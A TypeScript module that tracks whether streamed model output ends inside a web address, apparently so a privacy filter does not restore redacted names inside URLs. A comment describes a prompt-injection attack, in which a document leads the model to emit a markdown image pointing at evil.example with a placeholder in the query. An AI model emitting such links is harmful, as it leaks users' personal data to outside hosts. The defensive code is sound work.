/** How much of an address is compared; of a longer one nothing is restored. */
const ADDRESS_MAX = 600;
const TOO_LONG = '\0';
const ADDRESS = /(?:https?|ftp|wss?):|[\\/]{2}/i;
/** As much of what came before as the start of an address can be split over. */
const RECENT = 6;

/**
 * Follows a text piece by piece and knows whether its end stands in a web address. Attack: a document talks the model into
 * `![](https://evil.example/?q=<PERSON_1>)`; restored, the client's viewer would send the name there.
 */
export interface Place {
  /** The address so far from its slashes on; undefined outside. */
  address: string | undefined;
  /** The last characters since the last space or quote. */
  recent: string;
}

export function newPlace(): Place {
  return { address: undefined, recent: '' };
}

/** The place after `text[from..to]`. In JSON text an escaped line end is a space. */
export function moveOver(place: Place, text: string, from: number, to: number, json: boolean): void {
  let rest = to;
  while (rest > from && !endsAddress(text, rest - 1, from, json)) rest--;
  if (rest > from) {
    place.address = undefined;
    place.recent = '';
  }
  if (rest === to) return;
  if (place.address !== undefined) {
    place.address = place.address.length + to - rest > ADDRESS_MAX ? TOO_LONG : place.address + text.slice(rest, to);
    place.recent = text.slice(Math.max(rest, to - RECENT), to);
    return;
  }
  const joined = place.recent + text.slice(rest, to);
  const at = joined.search(ADDRESS);
  if (at !== -1) place.address = joined.length - at > ADDRESS_MAX ? TOO_LONG : joined.slice(at).replace(/^[a-z]+/i, '');
  place.recent = joined.slice(-RECENT);
}

/** The address that the place stands in; undefined outside of one and in one that is too long to be compared. */
export function addressAt({ address }: Place): string | undefined {
  return address?.startsWith(TOO_LONG) ? undefined : address;
}

function endsAddress(text: string, at: number, from: number, json: boolean): boolean {
  const code = text.charCodeAt(at);
  if (code <= 0x20 || code === 0x22 || code === 0xa0) return true;
  return json && at > from && (code === 0x6e || code === 0x72 || code === 0x74) && text.charCodeAt(at - 1) === 0x5c;
}
